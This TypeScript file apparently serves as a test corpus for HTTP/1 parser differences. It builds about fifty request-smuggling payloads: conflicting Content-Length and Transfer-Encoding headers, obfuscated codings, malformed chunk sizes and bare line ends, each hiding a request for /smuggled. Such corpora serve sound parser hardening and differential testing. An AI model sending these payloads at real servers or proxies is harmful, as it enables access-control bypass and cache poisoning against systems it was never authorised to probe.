/**
 * Requests that two parsers of HTTP/1 can read differently: known attacks (CL.TE, TE.CL, TE.TE, CL.CL, line ends,
 * folding, chunk sizes, hop-by-hop). Each hides a request for /smuggled where one of the readings would find it.
 */

export interface Attack {
  readonly name: string
  readonly text: string
}

const SMUGGLED = 'GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n'
const START = 'POST /outer HTTP/1.1\r\nHost: a\r\n'
/** Ends a chunked body at once: who believes in chunks finds a request after it. */
const AS_CHUNKS = `0\r\n\r\n${SMUGGLED}`
const LENGTH = `Content-Length: ${AS_CHUNKS.length}\r\n`

/** @param fields of the outer request, each with its line end */
function clTe(name: string, coding: string): Attack {
  return { name, text: `${START}${LENGTH}${coding}\r\n${AS_CHUNKS}` }
}

function coded(name: string, coding: string): Attack {
  return { name, text: `${START}${coding}\r\n${AS_CHUNKS}` }
}

function chunks(name: string, body: string): Attack {
  return { name, text: `${START}Transfer-Encoding: chunked\r\n\r\n${body}` }
}

export const ATTACKS: readonly Attack[] = [
  clTe('length and coding', 'Transfer-Encoding: chunked\r\n'),
  clTe('coding and length', 'transfer-encoding: CHUNKED\r\n'),
  clTe('length and a coding that is hidden by a space', 'Transfer-Encoding : chunked\r\n'),
  clTe('length and a coding that is hidden by a tab', 'Transfer-Encoding\t: chunked\r\n'),
  clTe('length and a coding after a vertical tab', 'Transfer-Encoding: \x0bchunked\r\n'),
  clTe('length and a coding after a form feed', 'Transfer-Encoding: \x0cchunked\r\n'),
  clTe('length and a folded coding', 'Transfer-Encoding:\r\n chunked\r\n'),
  clTe('length and a coding in a folded line', 'X: y\r\n Transfer-Encoding: chunked\r\n'),
  clTe('length and a coding after a bare LF', 'X: y\nTransfer-Encoding: chunked\r\n'),
  clTe('length and a coding after a bare CR', 'X: y\rTransfer-Encoding: chunked\r\n'),
  clTe('length and a coding after NUL', 'X: y\0\r\nTransfer-Encoding: chunked\r\n'),
  clTe('length and identity, chunked', 'Transfer-Encoding: identity, chunked\r\n'),
  clTe('length and two codings', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n'),
  clTe('length and a quoted coding', 'Transfer-Encoding: "chunked"\r\n'),
  clTe(
    'length and a coding with an underscore',
    'Transfer_Encoding: chunked\r\nTransfer-Encoding: x\r\n',
  ),
  clTe('length that Connection takes away', 'Connection: content-length\r\n'),
  coded('xchunked', 'Transfer-Encoding: xchunked\r\n'),
  coded('chunked not last', 'Transfer-Encoding: chunked, identity\r\n'),
  coded('chunked twice in one', 'Transfer-Encoding: chunked, chunked\r\n'),
  coded('chunked twice in two', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n'),
  coded('chunked with a parameter', 'Transfer-Encoding: chunked;q=1\r\n'),
  coded('chunked in HTTP/1.0', 'Transfer-Encoding: chunked\r\n'),
  coded('two lengths', `Content-Length: 0\r\n${LENGTH}`),
  coded('two lengths in one', `Content-Length: 0, ${AS_CHUNKS.length}\r\n`),
  coded('a length with a sign', `Content-Length: +${AS_CHUNKS.length}\r\n`),
  coded('a length with a minus', 'Content-Length: -1\r\n'),
  coded('a length in hexadecimal', 'Content-Length: 0x20\r\n'),
  coded('a length with a blank', 'Content-Length: 3 0\r\n'),
  coded('a length with NUL', 'Content-Length: 3\x000\r\n'),
  coded('a length beyond 64 bits', 'Content-Length: 18446744073709551616\r\n'),
  coded('a length before the name', ' Content-Length: 5\r\n'),
  chunks('a chunk size with 0x', `0x0\r\n\r\n${SMUGGLED}`),
  chunks('a chunk size that overflows', `ffffffffffffffff0\r\n\r\n${SMUGGLED}`),
  chunks('a chunk size with a sign', `+0\r\n\r\n${SMUGGLED}`),
  chunks('a chunk size with an underscore', `0_0\r\n\r\n${SMUGGLED}`),
  chunks('a chunk size that ends with LF', `0\n\r\n${SMUGGLED}`),
  chunks('a chunk size after a blank', ` 0\r\n\r\n${SMUGGLED}`),
  chunks('a chunk extension with LF', `0;a\nb\r\n\r\n${SMUGGLED}`),
  chunks('chunk data that ends without a line end', `1\r\nA0\r\n\r\n${SMUGGLED}`),
  chunks('chunk data that ends with CR alone', `1\r\nA\r0\r\n\r\n${SMUGGLED}`),
  chunks('chunk data that ends with LF alone', `1\r\nA\n0\r\n\r\n${SMUGGLED}`),
  chunks('an end with LF alone', `0\r\n\n${SMUGGLED}`),
  { name: 'a bare LF after the request line', text: `GET / HTTP/1.1\nHost: a\r\n\r\n${SMUGGLED}` },
  { name: 'a bare LF at the end of the head', text: `GET / HTTP/1.1\r\nHost: a\r\n\n${SMUGGLED}` },
  { name: 'a line break in the target', text: `GET /\r\nx: /smuggled HTTP/1.1\r\nHost: a\r\n\r\n` },
  { name: 'two Hosts', text: `GET /smuggled HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n` },
  { name: 'a Host with a blank', text: `GET /smuggled HTTP/1.1\r\nHost: a b\r\n\r\n` },
  {
    name: 'a Host that Connection takes away',
    text: 'GET /smuggled HTTP/1.1\r\nHost: a\r\nConnection: host\r\n\r\n',
  },
  { name: 'a version that is none', text: `GET /smuggled HTTP/1.1x\r\nHost: a\r\n\r\n` },
  { name: 'HTTP/0.9', text: 'GET /smuggled\r\n\r\n' },
].map(({ name, text }) => ({
  name,
  text: name === 'chunked in HTTP/1.0' ? text.replace('HTTP/1.1', 'HTTP/1.0') : text,
}))
